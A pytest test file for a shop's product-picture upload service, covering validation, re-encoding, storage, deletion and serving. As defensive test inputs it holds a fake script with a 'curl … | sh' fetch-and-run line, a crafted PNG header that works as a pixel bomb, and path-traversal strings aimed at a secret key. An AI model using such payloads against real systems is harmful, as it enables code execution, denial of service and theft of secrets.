"""Product pictures: checked by content, refused when too large in bytes or pixels (from the
header alone), re-encoded without metadata, upright, 640×480; stored, ordered, deleted and served."""

from __future__ import annotations

import io
import os
import struct
import zlib
from pathlib import Path

import pytest
from flask_babel import force_locale
from PIL import Image

from shop.audit.services import events
from shop.catalog import editing, images
from shop.catalog.listing import Filters, list_products
from shop.catalog.models import ProductImage
from shop.errors import ConflictError, ValidationError
from shop.extensions import db
from shop.mail.services import run_committed_work
from tests.catalog.conftest import TODAY
from tests.support.builders import a_user, make_product


@pytest.fixture(autouse=True)
def english(app):
    """The services' messages are read in English here (the shop's default is Vietnamese)."""
    with force_locale("en"):
        yield


@pytest.fixture
def app_config(app_config, tmp_path):
    return {**app_config, "UPLOAD_FOLDER": str(tmp_path / "uploads")}


def picture(fmt: str = "PNG", size=(800, 600), color=(200, 30, 60), **options) -> io.BytesIO:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, fmt, **options)
    out.seek(0)
    return out


def photo_with_exif() -> io.BytesIO:
    """A 1200×900 JPEG, left half red and right half blue, that a camera held upright took:
    EXIF orientation 6 (turn 90° clockwise to show), with the camera's make and a GPS position."""
    photo = Image.new("RGB", (1200, 900), (0, 0, 255))
    photo.paste((255, 0, 0), (0, 0, 600, 900))
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation
    exif[0x010F] = "Máy ảnh của HTX"  # Make
    exif[0x8825] = {1: "N", 2: (21.0, 3.0, 50.0)}  # GPS
    out = io.BytesIO()
    photo.save(out, "JPEG", exif=exif, quality=95)
    out.seek(0)
    return out


def png_header(width: int, height: int) -> io.BytesIO:
    """Only the signature, the IHDR chunk (with its CRC) and IEND of a PNG claiming
    width×height pixels: 57 bytes that would unpack to a huge image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return io.BytesIO(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IEND", b""))


def stored_size(path: str) -> tuple[int, int]:
    with Image.open(images.file_of(path)) as picture:
        return picture.size


@pytest.fixture
def actor(app):
    return a_user(email="chu-nhiem@example.vn")


@pytest.fixture
def product(app):
    return make_product("Xôi Phú Thượng", status="draft")


# --- What is accepted and how it is stored --------------------------------------------------


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "WEBP"])
def test_jpeg_png_and_webp_become_the_catalogs_640_by_480_jpeg(app, fmt):
    data = images.prepare_picture(picture(fmt, size=(1600, 1200)))
    result = Image.open(io.BytesIO(data))
    assert (result.format, result.size, result.mode) == ("JPEG", (640, 480), "RGB")


def test_a_photo_is_turned_upright_and_loses_its_exif(app):
    data = images.prepare_picture(photo_with_exif())
    result = Image.open(io.BytesIO(data))
    assert result.size == (640, 480)
    assert not result.getexif() and "exif" not in result.info
    assert b"Exif" not in data and "Máy ảnh".encode() not in data
    # Turned upright, the red left half is on top: the bottom of the crop is blue.
    top, bottom = result.getpixel((10, 10)), result.getpixel((10, 470))
    assert top[0] > 200 and top[2] < 60
    assert bottom[2] > 200 and bottom[0] < 60


def test_a_transparent_png_is_put_on_white(app):
    out = io.BytesIO()
    Image.new("RGBA", (800, 600), (0, 0, 0, 0)).save(out, "PNG")
    out.seek(0)
    result = Image.open(io.BytesIO(images.prepare_picture(out)))
    assert result.getpixel((320, 240)) == (255, 255, 255)


@pytest.mark.parametrize(
    ("mode", "fmt", "fill"),
    [
        ("I;16", "PNG", 40_000),
        ("P", "PNG", 3),
        ("CMYK", "JPEG", (0, 80, 80, 0)),
        ("L", "WEBP", 90),
        ("LA", "PNG", (90, 255)),
    ],
)
def test_pictures_of_every_colour_mode_are_read(app, mode, fmt, fill):
    out = io.BytesIO()
    Image.new(mode, (1000, 750), fill).save(out, fmt)
    out.seek(0)
    result = Image.open(io.BytesIO(images.prepare_picture(out)))
    assert (result.size, result.mode) == ((640, 480), "RGB")


def test_a_large_photo_is_shrunk_before_it_is_worked_on(app):
    big = picture("PNG", size=(6000, 4500))  # 27 megapixels
    result = Image.open(io.BytesIO(images.prepare_picture(big)))
    assert result.size == (640, 480)
    assert result.getpixel((320, 240))[0] > 180


# --- What is refused ------------------------------------------------------------------------


def refusal(stream, **limits) -> str:
    with pytest.raises(ValidationError) as refused:
        images.prepare_picture(stream, **limits)
    assert refused.value.field == "file"
    return str(refused.value.message)


def test_a_script_with_a_jpg_name_is_refused(app):
    script = io.BytesIO(b"#!/bin/sh\ncurl http://example.invalid/x | sh\n")
    script.filename = "xoi.jpg"
    assert refusal(script) == "This file is not a JPEG, PNG or WebP picture."


def test_a_picture_of_another_format_is_refused(app):
    assert refusal(picture("GIF")) == "This file is not a JPEG, PNG or WebP picture."


def test_a_40_megapixel_bomb_is_refused_from_its_header(app):
    bomb = png_header(8000, 5000)
    assert len(bomb.getvalue()) < 100
    assert refusal(bomb) == "The picture has 40 megapixels; at most 30 are accepted. Send a smaller one."


def test_a_header_past_pillows_own_bomb_limit_is_refused_the_same_way(app):
    assert "too many pixels" in refusal(png_header(100_000, 100_000))


def test_a_file_over_the_byte_limit_is_refused(app):
    message = refusal(io.BytesIO(b"x" * (1_048_576 + 1)), limit_bytes=1_048_576)
    assert message == "The picture is larger than 1 MB. Send a smaller one."


def test_a_tiny_picture_is_refused(app):
    assert refusal(picture("PNG", size=(200, 150))) == "The picture is 200×150 pixels; it must be at least 320×240."


def test_a_damaged_picture_is_refused(app):
    data = picture("JPEG", size=(1200, 900)).getvalue()
    assert refusal(io.BytesIO(data[: len(data) // 3])) == "The picture could not be read. It may be damaged."


def test_nothing_sent_is_refused(app):
    assert refusal(io.BytesIO(b"")) == "Choose a picture to upload."


# --- A product's pictures -------------------------------------------------------------------


def test_an_added_picture_is_stored_last_with_its_descriptions_and_audited(product, actor):
    image = images.add_image(product, picture(), alt_vi="Hộp xôi gấc", alt_en="A box of gấc xôi", actor=actor)
    db.session.commit()
    assert image.path.startswith(f"uploads/products/{product.id}/") and image.path.endswith(".jpg")
    assert image.position == 1  # after the builder's picture
    assert stored_size(image.path) == (640, 480)
    entry = events(producer_id=product.producer_id, action="image.add")[0]
    assert entry.entity == "image" and entry.after["alt_vi"] == "Hộp xôi gấc"


def test_both_descriptions_are_required(product, actor):
    with pytest.raises(editing.ListingErrors) as refused:
        images.add_image(product, picture(), alt_vi="Hộp xôi", alt_en=" ", actor=actor)
    assert set(refused.value.errors) == {"alt_en"}
    assert not os.path.exists(os.path.join(images._folder(), str(product.id)))


def test_a_picture_whose_transaction_rolls_back_leaves_no_file(product, actor):
    image = images.add_image(product, picture(), alt_vi="Hộp xôi", alt_en="A box of xôi", actor=actor)
    written = images.file_of(image.path)
    assert os.path.exists(written)
    db.session.rollback()
    assert not os.path.exists(written)


def test_moving_a_picture_up_makes_it_the_cards_picture(actor):
    product = make_product("Bánh cốm Hàng Than")
    second = images.add_image(product, picture(), alt_vi="Bánh cốm", alt_en="Green rice cake", actor=actor)
    db.session.commit()
    card = list_products(Filters(q="banh com"), today=TODAY).products[0]
    assert card.image_path == "img/hero.svg"
    assert images.move_image(second, -1, actor=actor)
    db.session.commit()
    assert [i.path for i in sorted(product.images, key=lambda i: i.position)][0] == second.path
    card = list_products(Filters(q="banh com"), today=TODAY).products[0]
    assert card.image_path == second.path
    assert images.move_image(second, -1, actor=actor) is False  # already first
    entry = events(producer_id=product.producer_id, action="image.move")[0]
    assert entry.before == {"position": 1} and entry.after == {"position": 0}


def test_a_deleted_pictures_file_goes_after_the_commit(product, actor):
    image = images.add_image(product, picture(), alt_vi="Hộp xôi", alt_en="A box of xôi", actor=actor)
    db.session.commit()
    written, image_id = images.file_of(image.path), image.id
    images.delete_image(image, actor=actor)
    assert os.path.exists(written)  # not before the deletion has committed
    db.session.commit()
    run_committed_work()
    assert not os.path.exists(written)
    assert db.session.get(ProductImage, image_id) is None
    assert [i.position for i in product.images] == [0]
    entry = events(producer_id=product.producer_id, action="image.delete")[0]
    assert entry.before["path"] == image.path and entry.after is None


def test_a_deletion_that_rolls_back_keeps_the_file(product, actor):
    image = images.add_image(product, picture(), alt_vi="Hộp xôi", alt_en="A box of xôi", actor=actor)
    db.session.commit()
    written = images.file_of(image.path)
    images.delete_image(image, actor=actor)
    db.session.rollback()
    run_committed_work()
    assert os.path.exists(written)


def test_a_published_product_keeps_its_last_picture(actor):
    product = make_product("Xôi Phú Thượng")
    with pytest.raises(ConflictError, match="at least one picture"):
        images.delete_image(product.images[0], actor=actor)


def test_pictures_shipped_with_the_shop_are_never_removed_from_static(product, actor):
    assert images.file_of("img/hero.svg") is None
    assert images.file_of("uploads/products/1/../../../secret_key") is None


def test_descriptions_can_be_changed(product, actor):
    image = product.images[0]
    assert images.update_image(image, alt_vi="Xôi gấc", alt_en="Gấc sticky rice", actor=actor)
    assert images.update_image(image, alt_vi="Xôi gấc", alt_en="Gấc sticky rice", actor=actor) is False
    entry = events(producer_id=product.producer_id, action="image.update")[0]
    assert entry.after == {"alt_vi": "Xôi gấc", "alt_en": "Gấc sticky rice"}


# --- Serving --------------------------------------------------------------------------------


def test_an_uploaded_picture_is_served_at_its_static_address_for_a_year(client, product, actor):
    image = images.add_image(product, picture(), alt_vi="Hộp xôi", alt_en="A box of xôi", actor=actor)
    db.session.commit()
    url = f"/static/{image.path}"
    response = client.get(url)
    assert response.status_code == 200 and response.mimetype == "image/jpeg"
    assert response.data == Path(images.file_of(image.path)).read_bytes()
    cache = response.headers["Cache-Control"]
    assert "max-age=31536000" in cache and "immutable" in cache and "public" in cache
    again = client.get(url, headers={"If-None-Match": response.headers["ETag"]})
    assert again.status_code == 304
    response.close()
    again.close()


@pytest.mark.parametrize(
    "path", ["uploads/products/1/0123456789abcdef0123.jpg", "uploads/products/../secret_key", "uploads/products/x.png"]
)
def test_other_upload_addresses_are_not_found(client, path):
    assert client.get(f"/static/{path}").status_code == 404


def test_a_damaged_picture_is_refused_after_an_invoice_pdf_was_made(app):
    from shop.invoicing.documents import render_pdf

    render_pdf("<p>Hoá đơn</p>")
    test_a_damaged_picture_is_refused(app)
